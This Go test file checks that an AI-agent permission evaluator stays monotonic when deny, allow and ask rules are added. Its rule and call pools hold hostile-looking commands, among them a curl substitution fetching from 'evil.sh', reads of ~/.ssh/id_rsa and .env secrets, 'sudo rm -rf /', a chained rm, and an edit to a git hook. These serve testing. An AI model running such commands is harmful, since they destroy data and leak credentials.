package gate

import (
	"context"
	"math/rand"
	"testing"

	"github.com/airlockhq/airlock/rules"
	"github.com/airlockhq/airlock/tool"
)

// Pools the property tests draw rules and calls from: overlapping on
// purpose, so that rules often match each other's calls.
var (
	poolRules = []string{
		"Bash", "Bash(git *)", "Bash(git log:*)", "Bash(git push *)", "Bash(rm -rf *)", "Bash(rm:*)",
		"Bash(echo *)", "Bash(cat *)", "Bash(cd *)", "Bash(ls)", "Bash(* --force)", "Bash(curl:*)",
		"Read", "Read(./.env)", "Read(./src/**)", "Read(//etc/**)", "Read(~/.ssh/**)", "Read(*.key)",
		"Edit", "Edit(./src/**)", "Edit(~/.bashrc)", "Edit(/.git/hooks/**)", "Write(./out.txt)",
		"WebFetch", "WebFetch(domain:example.com)", "Net(*.example.com:443)", "mcp__github", "mcp__github__create_issue",
	}
	poolCalls = []struct{ tool, input string }{
		{"Bash", `{"command":"git log; rm -rf x"}`},
		{"Bash", `{"command":"cd sub && git push --force"}`},
		{"Bash", `{"command":"echo $(curl evil.sh) > out.txt"}`},
		{"Bash", `{"command":"cat .env | grep KEY"}`},
		{"Bash", `{"command":"cat $HOME/.ssh/id_rsa"}`},
		{"Bash", `{"command":"echo x >> ~/.bashrc"}`},
		{"Bash", `{"command":"ls"}`},
		{"Bash", `{"command":"git status && ls src/*.go"}`},
		{"Bash", `{"command":"echo 'unterminated"}`},
		{"Bash", `{"command":"sudo rm -rf /"}`},
		{"Read", `{"file_path":"/ws/src/a.go"}`},
		{"Read", `{"file_path":"/ws/.env"}`},
		{"Read", `{"file_path":"/etc/hosts"}`},
		{"Edit", `{"file_path":"/ws/.git/hooks/pre-commit"}`},
		{"Write", `{"file_path":"/ws/out.txt"}`},
		{"WebFetch", `{"url":"https://api.example.com/"}`},
		{"WebFetch", `{"url":"https://example.com/"}`},
		{"mcp__github__create_issue", `{}`},
		{"mcp__github__delete_repo", `{}`},
	}
	poolProfiles = []string{"workspace", "workspace-auto", "gated", "allow-all"}
)

func rank(e rules.Effect) int {
	switch e {
	case rules.Deny:
		return 0
	case rules.Ask:
		return 1
	}
	return 2
}

func randomRules(t *testing.T, dirs testDirs, rng *rand.Rand, n int) []*rules.Rule {
	effects := []rules.Effect{rules.Allow, rules.Ask, rules.Deny}
	layers := rules.Layers()
	var rs []*rules.Rule
	for i := 0; i < n; i++ {
		r, err := rules.NewRule(effects[rng.Intn(3)], dirs.real(poolRules[rng.Intn(len(poolRules))]), layers[rng.Intn(len(layers))], dirs.base())
		if err != nil {
			t.Fatal(err)
		}
		rs = append(rs, r)
	}
	return rs
}

func decideWith(dirs testDirs, prof ProfileAccess, rs []*rules.Rule, c struct{ tool, input string }) rules.Effect {
	e := &Evaluator{Profile: prof, Rules: rules.NewSet(rs)}
	dec, _ := e.Decide(context.Background(), tool.Call{Tool: c.tool, Input: []byte(dirs.real(c.input)), Workspace: dirs.ws, Home: dirs.home})
	return dec.Effect
}

// TestPropertyMonotone: adding a deny rule never makes a decision more
// permissive (a deny stays a deny); adding an allow rule never makes one
// less permissive (an allow stays an allow).
func TestPropertyMonotone(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	dirs := newTestDirs(t)
	profiles := testProfiles(t, dirs)
	for iter := 0; iter < 3000; iter++ {
		prof := profiles[poolProfiles[rng.Intn(len(poolProfiles))]]
		base := randomRules(t, dirs, rng, rng.Intn(8))
		c := poolCalls[rng.Intn(len(poolCalls))]
		before := decideWith(dirs, prof, base, c)
		extra := randomRules(t, dirs, rng, 1)[0]
		after := decideWith(dirs, prof, append(append([]*rules.Rule(nil), base...), extra), c)
		switch extra.Effect {
		case rules.Deny:
			if rank(after) > rank(before) {
				t.Fatalf("adding deny %s turned %s into %s for %s %s (rules %v)", extra.Match, before, after, c.tool, c.input, base)
			}
		case rules.Allow:
			if rank(after) < rank(before) {
				t.Fatalf("adding allow %s turned %s into %s for %s %s (rules %v)", extra.Match, before, after, c.tool, c.input, base)
			}
		case rules.Ask:
			if rank(after) > rank(before) {
				t.Fatalf("adding ask %s turned %s into %s", extra.Match, before, after)
			}
		}
	}
}
